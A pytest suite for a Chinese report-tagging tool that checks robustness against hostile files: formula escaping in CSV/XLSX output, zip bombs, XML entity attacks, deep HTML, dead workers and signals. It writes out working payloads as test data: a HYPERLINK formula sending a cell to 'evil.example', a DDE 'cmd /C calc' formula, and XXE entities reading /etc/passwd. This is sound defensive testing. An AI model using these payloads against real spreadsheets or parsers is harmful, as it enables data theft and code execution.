"""Hostile files and faults (issue 11): one bad file never costs the batch, nothing hangs,
no output runs code. Every hostile input is generated here, in tmp_path.

The numbers in the section titles are the cases of the issue.
"""

from __future__ import annotations

import csv
import errno
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from conftest import (docx_paragraphs, make_docx, make_gov_page, make_pdf, write_raw_docx)
from lawgov_cls.cli import cli
from lawgov_cls.read import ReportError, decode_bytes, display_path, read_report
from lawgov_cls.segment import split_paragraphs
from lawgov_cls.tag import tag_batch

def run(*args):
    return CliRunner().invoke(cli, [str(a) for a in args])


@pytest.fixture
def deadline():
    """Fail (instead of hanging the suite) if the test body takes longer than ``seconds``."""

    def arm(seconds: float):
        def expired(signum, frame):
            pytest.fail(f"still running after {seconds} s: the run hangs")

        signal.signal(signal.SIGALRM, expired)
        signal.setitimer(signal.ITIMER_REAL, seconds)

    yield arm
    signal.setitimer(signal.ITIMER_REAL, 0)
    signal.signal(signal.SIGALRM, signal.SIG_DFL)


@pytest.fixture
def good(seed_path, tmp_path) -> Path:
    """A good report, to show that the rest of a batch is tagged."""
    folder = tmp_path / "good"
    folder.mkdir()
    return Path(shutil.copy(seed_path, folder / "good.txt"))


def body_lines(seed_path) -> list[str]:
    return [l for l in seed_path.read_text(encoding="utf-8").splitlines() if l.strip()]


def nonblank(text: str) -> list[str]:
    return [line for line in text.split("\n") if line.strip()]


def errors_of(out: Path) -> dict[str, str]:
    table = pd.read_csv(out / "errors.csv", keep_default_na=False)
    return {Path(p).name: r for p, r in zip(table["path"], table["reason"])}


def no_temp_files(folder: Path) -> bool:
    return not [p for p in folder.rglob("*") if p.name.endswith(".tmp")]


# --- 1. file names the writer cannot encode ------------------------------------------------

GBK_NAME = b"\xb1\xa8\xb8\xe6.txt"  # 报告.txt in GBK


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_gbk_and_control_character_names_are_written_readably(seed_path, tmp_path, fmt):
    folder = tmp_path / "t"
    folder.mkdir()
    data = seed_path.read_bytes()
    names = {GBK_NAME: "报告.txt", b"a\x01b\x1f.txt": "a\\x01b\\x1f.txt",
             b"\xff\xfe.txt": "\\xff\\xfe.txt"}
    for raw in names:
        with open(os.path.join(os.fsencode(folder), raw), "wb") as f:
            f.write(data)
    out = tmp_path / "o"
    result = run("tag", folder, "--out", out, "--format", fmt, "--quiet")
    assert result.exit_code == 0, result.output
    if fmt == "csv":
        docs = pd.read_csv(out / "paragraphs.csv")["doc"]
    elif fmt == "jsonl":
        docs = pd.read_json(out / "paragraphs.jsonl", lines=True)["doc"]
    else:
        docs = pd.read_excel(out / "results.xlsx", sheet_name="paragraphs")["doc"]
    assert sorted(set(docs)) == sorted(names.values())


def test_bad_file_with_a_gbk_name_is_listed_readably(good, tmp_path):
    with open(os.path.join(os.fsencode(good.parent), "空白.txt".encode("gbk")), "wb"):
        pass
    out = tmp_path / "o"
    result = run("tag", good.parent, "--out", out)
    assert result.exit_code == 1
    assert "空白.txt: empty file" in result.output
    assert errors_of(out) == {"空白.txt": "empty file"}


def test_display_path_is_lossless_and_printable():
    assert display_path(os.fsdecode(GBK_NAME)) == "报告.txt"
    assert display_path("目录/报告.txt") == "目录/报告.txt"
    assert display_path("a\tb\x7f.txt") == "a\\x09b\\x7f.txt"
    assert display_path(os.fsdecode(b"\xff.txt")) == "\\xff.txt"


# --- 2. outputs that run code ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "=cmd|' /C calc'!A0",
            "+1+2 加号开头的段落", "-3+4 减号开头的段落", "@SUM(1,2) 艾特开头的段落"]


@pytest.fixture
def formula_report(seed_path, tmp_path) -> Path:
    folder = tmp_path / "in"
    folder.mkdir()
    path = folder / "@report.txt"  # the doc name itself starts like a formula
    path.write_text("\n".join(FORMULAS + body_lines(seed_path)[:20]), encoding="utf-8")
    return path


def test_csv_cells_never_start_a_formula(formula_report, tmp_path):
    out = tmp_path / "o"
    assert run("tag", formula_report, "--out", out, "--quiet").exit_code == 0
    with open(out / "paragraphs.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    texts = [r[rows[0].index("text")] for r in rows[1:]]
    for formula in FORMULAS:
        assert "'" + formula in texts  # kept, escaped as OWASP describes
    assert {r[0] for r in rows[1:]} == {"'@report.txt"}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_csv_safe_escapes_every_formula_start(value):
    from lawgov_cls.output import csv_safe

    assert csv_safe(value) == "'" + value


def test_xlsx_has_no_formula_and_keeps_the_text(formula_report, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "o"
    assert run("tag", formula_report, "--out", out, "--quiet", "--format", "xlsx").exit_code == 0
    with zipfile.ZipFile(out / "results.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        for name in sheets:
            sheet_xml = archive.read(name)
            assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml, name
    book = load_workbook(out / "results.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
    texts = pd.read_excel(out / "results.xlsx", sheet_name="paragraphs")["text"].tolist()
    for formula in FORMULAS:
        assert formula in texts  # text cells hold the text itself


def test_control_characters_in_text_do_not_break_xlsx(tmp_path):
    from lawgov_cls.output import write_table

    frame = pd.DataFrame({"doc": ["a\x01b", "c\x1fd\udcb1"], "text": ["x\x0by", "=1"]})
    path = write_table(frame, tmp_path / "t.xlsx", "xlsx")
    assert pd.read_excel(path)["doc"].tolist() == ["a\\x01b", "c\\x1fd\\udcb1"]


# --- 3. a worker that dies; a file that takes too long ----------------------------------------

def _die_or_sleep(real):
    def read_one(job):
        path = job[0]
        if "die" in Path(path).name:
            os.kill(os.getpid(), signal.SIGKILL)  # as the OOM killer does
        if "slow" in Path(path).name:
            time.sleep(60)
        return real(job)

    return read_one


@pytest.mark.parametrize("jobs", [1, 2])
def test_dead_or_slow_worker_is_reported_and_the_batch_finishes(model, seed_paths, tmp_path,
                                                               monkeypatch, deadline, jobs):
    import lawgov_cls.tag as tag

    folder = tmp_path / "in"
    folder.mkdir()
    for i, seed in enumerate(seed_paths[:3]):
        shutil.copy(seed, folder / f"{i}.txt")
    shutil.copy(seed_paths[0], folder / "1_die.txt")
    shutil.copy(seed_paths[0], folder / "1_slow.txt")
    monkeypatch.setattr(tag, "_read_one", _die_or_sleep(tag._read_one))  # forked workers inherit it
    deadline(60)
    # 5 s: ten times what a seed report takes, so that only the slow file times out on a
    # loaded machine.
    result = tag_batch(model, folder, tmp_path / "o", jobs=jobs, timeout=5)
    reasons = dict((Path(p).name, r) for p, r in result.errors)
    assert set(reasons) == {"1_die.txt", "1_slow.txt"}, reasons
    assert "worker process died" in reasons["1_die.txt"] and "signal 9" in reasons["1_die.txt"]
    assert "longer than 5 s" in reasons["1_slow.txt"]
    assert result.tagged == 3 and result.exit_code == 1
    docs = pd.read_csv(tmp_path / "o" / "paragraphs.csv")["doc"].unique().tolist()
    assert docs == ["0.txt", "1.txt", "2.txt"]


def test_timeout_option_is_documented_and_reaches_the_batch(seed_path, tmp_path):
    from lawgov_cls.cli import DEFAULT_TIMEOUT
    from lawgov_cls.tag import DEFAULT_TIMEOUT as LIBRARY_DEFAULT

    assert DEFAULT_TIMEOUT == LIBRARY_DEFAULT
    assert "--timeout" in run("tag", "--help").output
    for timeout in ("0", "30"):
        result = run("tag", seed_path, "--out", tmp_path / timeout, "--timeout", timeout, "--quiet")
        assert result.exit_code == 0, result.output


# --- 4. memory bounded for .docx -----------------------------------------------------------

def _chunks(piece: bytes, total: int, chunk: int = 1 << 20):
    block = piece * (chunk // len(piece))
    for _ in range(total // len(block)):
        yield block


def test_docx_that_inflates_past_the_limit_is_refused_unread(tmp_path):
    path = write_raw_docx(tmp_path / "bomb.docx", _chunks(b"<w:p/>", 12 << 20))
    assert path.stat().st_size < 200_000
    with pytest.raises(ReportError, match="inflates to 12 MB, over the 5 MB limit"):
        read_report(path, max_bytes=1 << 20)


def test_docx_compressed_with_lzma_is_refused_uninflated(tmp_path):
    """LZMA inflates a whole read at once, without the bound deflate gives."""
    path = write_raw_docx(tmp_path / "plain.docx", docx_paragraphs("正文。"))
    lzma = tmp_path / "lzma.docx"
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(lzma, "w", zipfile.ZIP_LZMA) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
    with pytest.raises(ReportError, match="unusual zip compression"):
        read_report(lzma)


def test_docx_with_too_many_elements_is_refused(tmp_path):
    path = write_raw_docx(tmp_path / "many.docx", _chunks(b"<w:p/>", 4 << 20))
    with pytest.raises(ReportError, match="699,050 XML elements, over the 104,857 limit"):
        read_report(path, max_bytes=1 << 20)


def test_docx_with_a_huge_text_node_is_refused(tmp_path):
    text = b"".join(_chunks("法".encode(), 3 << 20, 3 << 16))
    path = write_raw_docx(tmp_path / "node.docx", f"<w:p><w:r><w:t>{text.decode()}</w:t></w:r></w:p>")
    with pytest.raises(ReportError, match="over 1,048,576 characters"):
        read_report(path, max_bytes=1 << 20)


@pytest.mark.parametrize("prolog, body", [
    ('<!DOCTYPE d [<!ENTITY a "哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
     '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>',
     "<w:p><w:r><w:t>&d;&d;&d;&d;&d;&d;&d;&d;</w:t></w:r></w:p>"),
    ('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
     "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>"),
])
def test_docx_entities_are_not_expanded(tmp_path, prolog, body):
    path = write_raw_docx(tmp_path / "entity.docx", docx_paragraphs("正文第一段,依法行政。") + body,
                          prolog=prolog.replace("<!DOCTYPE d", "<!DOCTYPE w:document"))
    try:
        text = read_report(path)
    except ReportError as exc:
        assert "docx" in exc.reason
    else:
        assert "root:" not in text and "哈哈哈哈哈哈哈哈哈" not in text


def test_memory_stays_bounded_on_every_hostile_file(good, tmp_path):
    """The CLI over all the memory hostile inputs: peak RSS of every process < 1.5 GB."""
    folder = good.parent
    write_raw_docx(folder / "empty_paragraphs.docx", _chunks(b"<w:p/>", 200 << 20))  # 4.8 GB before
    write_raw_docx(folder / "under_limit.docx", _chunks(b"<w:p></w:p>", 90 << 20))
    write_raw_docx(folder / "big_node.docx", ["<w:p><w:r><w:t>".encode(),  # 2.5 GB before
                                              *_chunks("法".encode(), 1100 << 20),
                                              "</w:t></w:r></w:p>".encode()])
    (folder / "nested.html").write_bytes(b"<html><body>" + b"<div>" * 100_000 + b"</body></html>")
    # 1.8 million elements: readability would need 1.7 GB
    (folder / "elements.html").write_bytes(b"<html><body>" + "<b>法</b>".encode() * ((19 << 20) // 11))
    (folder / "lines.txt").write_bytes(b"x\n" * (9 << 20))  # 9 million one-letter paragraphs
    out = tmp_path / "o"
    code = ("import resource, subprocess, sys; "
            f"r = subprocess.run([sys.executable, '-m', 'lawgov_cls', 'tag', {str(folder)!r}, "
            f"'--out', {str(out)!r}, '--quiet']); "
            "print(r.returncode, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    returncode, max_kb = map(int, done.stdout.split())
    assert returncode == 1, done.stderr
    assert max_kb < 1.5 * 2**20, f"peak RSS {max_kb / 2**10:.0f} MB"
    reasons = errors_of(out)
    assert "over the 100 MB limit" in reasons["empty_paragraphs.docx"]
    assert "XML elements, over the 2,097,152 limit" in reasons["under_limit.docx"]
    assert "inflates to 1,100 MB, over the 100 MB limit" in reasons["big_node.docx"]
    assert "nested deeper" in reasons["nested.html"]
    assert "HTML elements, over the 524,288 limit" in reasons["elements.html"]
    assert "9,437,185 lines, over the 419,430 limit" in reasons["lines.txt"]
    assert pd.read_csv(out / "paragraphs.csv")["doc"].unique().tolist() == ["good.txt"]


# --- 5. non-regular files -------------------------------------------------------------------

def test_fifo_and_device_are_refused_without_reading(good, tmp_path, deadline):
    fifo = tmp_path / "x.txt"
    os.mkfifo(fifo)
    device = tmp_path / "dev.txt"
    device.symlink_to("/dev/zero")
    in_folder = good.parent / "pipe.txt"
    os.mkfifo(in_folder)
    deadline(60)
    out = tmp_path / "o"
    result = run("tag", fifo, device, good.parent, "--out", out, "--quiet")
    assert result.exit_code == 1, result.output
    reasons = errors_of(out)
    assert "FIFO" in reasons["x.txt"] and "FIFO" in reasons["pipe.txt"]
    assert "character device" in reasons["dev.txt"]
    assert pd.read_csv(out / "paragraphs.csv")["doc"].unique().tolist() == ["good.txt"]


def test_file_growing_past_the_limit_is_not_read_past_it(tmp_path):
    from lawgov_cls.read import read_bytes_limited

    path = tmp_path / "a.txt"
    path.write_bytes(b"x" * 2000)
    with pytest.raises(ReportError, match="over the"):
        read_bytes_limited(path, 1000)


# --- 6. HTML in linear time -----------------------------------------------------------------

def test_deeply_nested_html_is_refused_at_once(tmp_path, deadline):
    path = tmp_path / "deep.html"
    path.write_bytes(b"<html><body><p>\xe6\xad\xa3\xe6\x96\x87</p>" + b"<div>" * 100_000
                     + b"</div>" * 100_000 + b"</body></html>")
    deadline(20)
    with pytest.raises(ReportError, match="nested deeper than 2,048"):
        read_report(path)


def test_nesting_within_the_limit_keeps_the_deep_text(seed_path, tmp_path):
    lines = body_lines(seed_path)[8:14]
    inner = "".join(f"<p>{l}</p>" for l in lines)
    path = tmp_path / "nested.html"
    path.write_text(f"<html><body>{'<div>' * 1500}{inner}{'</div>' * 1500}</body></html>",
                    encoding="utf-8")
    assert nonblank(read_report(path)) == lines


def test_block_text_skips_scripts_and_keeps_their_tails_once():
    import lxml.html

    from lawgov_cls.read_html import html_block_text

    root = lxml.html.fromstring("<div><p>甲<script>x()</script>乙<br>丙</p><p>丁</p></div>")
    assert nonblank(html_block_text(root)) == ["甲乙", "丙", "丁"]


def test_page_with_too_many_elements_is_refused_before_parsing(tmp_path):
    path = tmp_path / "many.html"
    path.write_bytes(b"<html><body>" + "<b>法</b>".encode() * 30_000 + b"</body></html>")
    with pytest.raises(ReportError, match="about 30,002 HTML elements, over the 26,214 limit"):
        read_report(path, max_bytes=1 << 20)


def test_file_of_too_many_lines_is_refused_before_splitting(tmp_path):
    path = tmp_path / "lines.txt"
    path.write_bytes("法\n".encode() * 30_000)
    with pytest.raises(ReportError, match="30,001 lines, over the 20,971 limit"):
        read_report(path, max_bytes=1 << 20)


def test_a_run_of_chinese_without_punctuation_is_split_into_bounded_paragraphs(model):
    """jieba's time grows with the square of such a run; pieces keep tagging linear."""
    from lawgov_cls.segment import MAX_LINE_CHARS
    from lawgov_cls.tag import tag_text

    text = "一、总体情况\n" + "依法行政" * 2500 + "。" + "推进法治" * 100
    frame = tag_text(model, text)
    assert frame["text"].str.len().max() <= MAX_LINE_CHARS
    assert "".join(frame["text"]) == text.replace("\n", "")


def test_flat_8_mb_page_is_read(tmp_path, deadline):
    para = "<p>" + "依法全面履行政府职能,深化放管服改革,推行证照分离改革。" * 3 + "</p>\n"
    path = tmp_path / "flat.html"
    path.write_text("<html><body><div class='content'>" + para * (8 * 2**20 // len(para.encode()))
                    + "</div></body></html>", encoding="utf-8")
    deadline(60)  # before: 53 s, because bs4's decomposed check and Tag.index are linear
    text = read_report(path)
    assert text.count("\n") > 40_000


# --- 7. charsets and what counts as the article ----------------------------------------------

def test_gb2312_page_with_gbk_only_characters_keeps_its_text(seed_path, tmp_path):
    lines = body_lines(seed_path)[8:12]
    lines[0] += "(朱镕基同志题词,捐款€500)"
    page = make_gov_page(lines, charset="gb2312")
    data = b"\x80".join(part.encode("gbk") for part in page.split("€"))  # cp936's euro
    path = tmp_path / "gb.html"
    path.write_bytes(data)
    body = [p.text for p in split_paragraphs(read_report(path)) if not p.furniture]
    assert body == lines  # the 来源 line of the article is there too, flagged as furniture


@pytest.mark.parametrize("body_attrs, wrapper", [
    ('id="top"', "main"), ("", "top-wrap"), ('class="topbg"', "wrap top"), ("", "content"),
])
def test_article_kept_and_sidebars_dropped_whatever_the_wrapper_is_called(
        seed_path, tmp_path, body_attrs, wrapper):
    lines = body_lines(seed_path)[8:14]
    path = tmp_path / "page.html"
    path.write_text(make_gov_page(lines, body_attrs=body_attrs, wrapper=wrapper), encoding="utf-8")
    text = read_report(path)
    for line in lines:
        assert line in text
    for leaked in ("相关文章", "述法工作会议", "首页", "分享到", "ICP备"):
        assert leaked not in text


# --- 8. output errors, signals -----------------------------------------------------------------

def test_out_below_a_file_is_a_one_line_usage_error(good, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x")
    result = run("tag", good, "--out", blocker / "sub")
    assert result.exit_code == 2
    assert "cannot write" in result.output and "Traceback" not in result.output
    assert len(result.output.strip().splitlines()) == 1


@pytest.mark.parametrize("where, error", [
    ("lawgov_cls.output.tempfile.mkstemp", errno.EROFS),  # read-only --out
    ("lawgov_cls.output.os.replace", errno.ENOSPC),  # disk full when the tables are finished
])
def test_unwritable_output_exits_2_and_leaves_no_temp_file(good, tmp_path, monkeypatch, where, error):
    def fail(*args, **kwargs):
        raise OSError(error, os.strerror(error))

    monkeypatch.setattr(where, fail)
    out = tmp_path / "o"
    out.mkdir()
    result = run("tag", good, "--out", out, "--force")
    assert result.exit_code == 2, result.output
    assert os.strerror(error) in result.output and "Traceback" not in result.output
    assert no_temp_files(out) and not (out / "paragraphs.csv").exists()


@pytest.mark.parametrize("signum, code", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_signal_stops_the_run_cleanly(seed_paths, tmp_path, signum, code, deadline):
    folder = tmp_path / "many"
    folder.mkdir()
    for i in range(60):
        for seed in seed_paths:
            shutil.copy(seed, folder / f"{i:03d}_{seed.name}")
    out = tmp_path / "o"
    proc = subprocess.Popen([sys.executable, "-m", "lawgov_cls", "tag", str(folder), "--out",
                             str(out), "--quiet", "--jobs", "2"], stderr=subprocess.PIPE,
                            text=True, start_new_session=True)
    deadline(120)
    while not list(out.glob(".paragraphs.csv.*.tmp")):  # tagging has begun
        assert proc.poll() is None, proc.stderr.read()
        time.sleep(0.05)
    time.sleep(0.5)
    # Ctrl-C reaches the whole process group, workers too; SIGTERM only the main process.
    if signum == signal.SIGINT:
        os.killpg(proc.pid, signum)
    else:
        proc.send_signal(signum)
    stderr = proc.communicate()[1]
    assert proc.returncode == code, stderr
    assert "Traceback" not in stderr
    assert no_temp_files(out) and not (out / "paragraphs.csv").exists()
    time.sleep(0.2)
    leftover = subprocess.run(["pgrep", "-s", str(proc.pid)], capture_output=True, text=True)
    assert leftover.stdout.strip() == "", "worker processes left running"


# --- 9. silent losses ---------------------------------------------------------------------------

def test_doc_and_wps_files_are_reported_not_skipped(good, tmp_path):
    (good.parent / "old.doc").write_bytes(b"\xd0\xcf\x11\xe0 old word")
    (good.parent / "old.wps").write_bytes(b"\xd0\xcf\x11\xe0 wps")
    (good.parent / "Thumbs.db").write_bytes(b"system file")
    out = tmp_path / "o"
    result = run("tag", good.parent, "--out", out, "--quiet")
    assert result.exit_code == 1
    reasons = errors_of(out)
    assert set(reasons) == {"old.doc", "old.wps"}
    assert "save it as .docx" in reasons["old.doc"] and "WPS" in reasons["old.wps"]


def test_folder_without_a_supported_file_fails_with_a_clear_message(tmp_path):
    folder = tmp_path / "olds"
    folder.mkdir()
    (folder / "a.doc").write_bytes(b"\xd0\xcf\x11\xe0")
    empty = tmp_path / "empty"
    empty.mkdir()
    out = tmp_path / "o"
    result = run("tag", folder, empty, "--out", out)
    assert result.exit_code == 1
    assert "olds: no supported report files" in result.output
    assert "empty: no supported report files" in result.output
    assert set(errors_of(out)) == {"a.doc", "olds", "empty"}


@pytest.fixture
def permissions_as_for_a_user(monkeypatch, tmp_path):
    """Root reads every folder whatever its mode; CI runs as root. For folders under
    tmp_path, make os.scandir and os.stat refuse as the kernel would refuse a user."""
    if os.geteuid() != 0:
        return
    real_scandir, real_stat = os.scandir, os.stat
    base = str(tmp_path)

    def denied(path, bit):
        path = os.fsdecode(os.fspath(path))
        return path.startswith(base) and not real_stat(path).st_mode & bit

    def search_denied(path):
        path = os.path.abspath(os.fsdecode(os.fspath(path)))
        parent = os.path.dirname(path)
        while parent.startswith(base) and parent != base:
            if not real_stat(parent).st_mode & stat.S_IXUSR:
                return True
            parent = os.path.dirname(parent)
        return False

    def scandir(path="."):
        if denied(path, stat.S_IRUSR) or search_denied(path):
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), os.fspath(path))
        return real_scandir(path)

    def fake_stat(path, *args, **kwargs):
        if not isinstance(path, int) and search_denied(path):
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), os.fspath(path))
        return real_stat(path, *args, **kwargs)

    monkeypatch.setattr(os, "scandir", scandir)
    monkeypatch.setattr(os, "stat", fake_stat)


def test_unreadable_and_unsearchable_folders_are_reported(good, tmp_path,
                                                          permissions_as_for_a_user):
    locked = good.parent / "locked"
    locked.mkdir()
    shutil.copy(good, locked / "hidden_from_us.txt")
    no_x = good.parent / "no_x"
    no_x.mkdir()
    shutil.copy(good, no_x / "inside.txt")
    locked.chmod(0)
    no_x.chmod(0o600)
    out = tmp_path / "o"
    try:
        result = run("tag", good.parent, "--out", out, "--quiet")
    finally:
        locked.chmod(0o755)
        no_x.chmod(0o755)
    assert result.exit_code == 1, result.output
    reasons = errors_of(out)
    assert "folder cannot be read" in reasons["locked"]
    assert "inside.txt" in reasons or "no_x" in reasons
    assert "ermission denied" in (reasons.get("inside.txt") or reasons["no_x"])
    assert pd.read_csv(out / "paragraphs.csv")["doc"].unique().tolist() == ["good.txt"]


def test_nested_tables_content_controls_and_text_boxes_are_read(tmp_path):
    cell = lambda xml: f"<w:tc>{xml}</w:tc>"
    nested = (f"<w:tbl><w:tr>{cell(docx_paragraphs('外层单元格'))}"
              f"{cell(docx_paragraphs('内层前') + '<w:tbl><w:tr>' + cell(docx_paragraphs('内层单元格')) + '</w:tr></w:tbl>')}"
              "</w:tr></w:tbl>")
    sdt = f"<w:sdt><w:sdtPr/><w:sdtContent>{docx_paragraphs('内容控件中的文字')}</w:sdtContent></w:sdt>"
    inline_sdt = ("<w:p><w:r><w:t>段落开头,</w:t></w:r><w:sdt><w:sdtContent><w:r><w:t>行内控件</w:t>"
                  "</w:r></w:sdtContent></w:sdt><w:r><w:t>段落结尾。</w:t></w:r></w:p>")
    textbox = ("<w:p><w:r><w:t>图前文字</w:t></w:r><w:r><mc:AlternateContent><mc:Choice Requires=\"wps\">"
               f"<w:drawing><wps:txbx><w:txbxContent>{docx_paragraphs('文本框文字')}</w:txbxContent>"
               "</wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict><w:txbxContent>"
               f"{docx_paragraphs('文本框文字')}</w:txbxContent></w:pict></mc:Fallback>"
               "</mc:AlternateContent></w:r></w:p>")
    deleted = "<w:p><w:del><w:r><w:delText>删除的文字</w:delText></w:r></w:del><w:r><w:t>保留</w:t></w:r></w:p>"
    path = write_raw_docx(tmp_path / "t.docx", docx_paragraphs("一、开头") + nested + sdt
                          + inline_sdt + textbox + deleted + docx_paragraphs("二、结尾"))
    assert read_report(path).split("\n") == [
        "一、开头", "外层单元格", "内层前", "内层单元格", "内容控件中的文字",
        "段落开头,行内控件段落结尾。", "文本框文字", "图前文字", "保留", "二、结尾"]


def test_docx_made_by_word_reads_like_python_docx_did(seed_path, tmp_path):
    path = tmp_path / "w.docx"
    path.write_bytes(make_docx(["一、总体情况", "正文。"], table_rows=[["a", "b"], ["c", "d"]],
                               table_after=0))
    assert read_report(path).split("\n") == ["一、总体情况", "a", "b", "c", "d", "正文。"]


def test_same_name_in_two_folders_gives_two_docs(seed_paths, tmp_path):
    for folder, seed in (("a", seed_paths[0]), ("b", seed_paths[1])):
        (tmp_path / folder / "sub").mkdir(parents=True)
        shutil.copy(seed, tmp_path / folder / "sub" / "report.txt")
    shutil.copy(seed_paths[2], tmp_path / "a" / "only_a.txt")
    out = tmp_path / "o"
    result = run("tag", tmp_path / "a", tmp_path / "b", tmp_path / "a" / "only_a.txt", "--out", out,
                 "--quiet")
    assert result.exit_code == 0, result.output
    docs = pd.read_csv(out / "paragraphs.csv")["doc"].unique().tolist()
    assert docs == ["only_a.txt", "a/sub/report.txt", "b/sub/report.txt"]  # only_a.txt once
    coverage = pd.read_csv(out / "coverage.csv")["doc"].tolist()
    assert coverage == docs


def test_predict_refuses_what_is_not_text(model):
    with pytest.raises(TypeError, match="item 0 is NoneType"):
        model.predict([None, 3])
    with pytest.raises(TypeError, match="item 1 is int"):
        model.predict(["依法行政", 3])


def test_tag_batch_takes_one_path_as_a_string(model, good, tmp_path):
    result = tag_batch(model, str(good.parent), tmp_path / "o", timeout=0)
    assert (result.files, result.tagged) == (1, 1)
    result = tag_batch(model, good, tmp_path / "o2", timeout=0)
    assert (result.files, result.tagged) == (1, 1)


# --- 10. over-strict decoding -----------------------------------------------------------------

def test_one_invalid_byte_does_not_reject_the_file(seed_path, tmp_path):
    data = seed_path.read_bytes()
    cut = data.index("。".encode()) + 3
    path = tmp_path / "bad_byte.txt"
    path.write_bytes(data[:cut] + b"\xff" + data[cut:])
    text = read_report(path)
    assert "\ufffd" in text
    assert text.replace("\ufffd", "") == read_report(seed_path)


def test_file_of_utf8_and_gbk_halves_reads_both(seed_path, tmp_path):
    lines = seed_path.read_text(encoding="utf-8").encode("gbk", "ignore").decode("gbk").split("\n")
    half = len(lines) // 2
    path = tmp_path / "mixed.txt"
    path.write_bytes("\n".join(lines[:half]).encode("utf-8") + b"\n"
                     + "\n".join(lines[half:]).encode("gbk"))
    reference = tmp_path / "ref.txt"
    reference.write_text("\n".join(lines), encoding="utf-8")
    assert read_report(path) == read_report(reference)


def test_binary_files_are_still_refused(tmp_path, random_bytes):
    with pytest.raises(ReportError, match="binary"):
        decode_bytes(random_bytes)
    path = tmp_path / "zeros.txt"
    path.write_bytes(b"\x00\x01\x02\x03" * 1000)  # valid UTF-8, but no text in it
    with pytest.raises(ReportError, match="no text found"):
        read_report(path)


def test_aes_pdf_with_empty_user_password_is_read(tmp_path):
    import io

    from pypdf import PdfReader, PdfWriter

    lines = ["Report on law-based government 2023", "Administrative reconsideration cases: 12"]
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf(lines))))
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    path = tmp_path / "aes.pdf"
    with open(path, "wb") as f:
        writer.write(f)
    assert read_report(path).split("\n") == lines


def test_every_hostile_case_in_one_batch(good, tmp_path, random_bytes, deadline):
    """Everything above at once: the good report is tagged, each bad file listed, exit 1."""
    folder = good.parent
    (folder / "garbage.txt").write_bytes(random_bytes)
    (folder / "old.doc").write_bytes(b"\xd0\xcf\x11\xe0")
    (folder / "deep.html").write_bytes(b"<html><body>" + b"<div>" * 50_000 + b"</body></html>")
    write_raw_docx(folder / "bomb.docx", _chunks(b"<w:p/>", 120 << 20))
    (folder / "broken.pdf").write_bytes(b"%PDF-1.4\n1 0 obj << /Kids [1 0 R] >> endobj")
    os.mkfifo(folder / "fifo.txt")
    deadline(120)
    out = tmp_path / "o"
    result = run("tag", folder, "--out", out, "--jobs", "2", "--format", "xlsx", "--quiet")
    assert result.exit_code == 1, result.output
    errors = pd.read_excel(out / "results.xlsx", sheet_name="errors")
    assert {Path(p).name for p in errors["path"]} == {"garbage.txt", "old.doc", "deep.html",
                                                      "bomb.docx", "broken.pdf", "fifo.txt"}
    paragraphs = pd.read_excel(out / "results.xlsx", sheet_name="paragraphs")
    assert paragraphs["doc"].unique().tolist() == ["good.txt"]
